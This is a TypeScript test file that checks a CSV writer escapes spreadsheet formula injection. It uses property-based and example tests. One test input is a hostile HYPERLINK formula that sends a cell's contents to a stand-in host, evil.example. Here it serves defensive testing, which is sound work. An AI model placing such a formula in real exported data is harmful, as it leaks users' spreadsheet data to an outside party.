import fc from 'fast-check'
import { expect, test } from 'vitest'
import { csvLine } from './csv.ts'

/** The cells of a CSV text, as RFC 4180 has them. */
function cellsOf(line: string): string[] {
  const cells = [...line.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/g)].map(([, cell = '']) => cell)
  return cells.map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell))
}

const text = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.array(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", ' ', '＝', 'a')).map((parts) => parts.join('')),
)

test('a spreadsheet reads what was written, and none of it is a formula', () => {
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (values) => {
      const cells = cellsOf(csvLine(values))
      expect(cells.map((cell, index) => (cell === `'${values[index]}` ? values[index] : cell))).toEqual(values)
      for (const cell of cells) expect(cell).not.toMatch(/^[\s=+\-@＋－＝＠]/)
    }),
    { numRuns: 1000 },
  )
})

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '=HYPERLINK("https://evil.example?"&A1,"x")'])(
  '%j is shown and not calculated',
  (value) => {
    expect(cellsOf(csvLine([value]))).toEqual([`'${value}`])
  },
)

test('numbers stay numbers, also negative ones, and nothing is an empty cell', () => {
  expect(csvLine([-1, true, null, 'a'])).toBe('-1,true,,a\r\n')
})
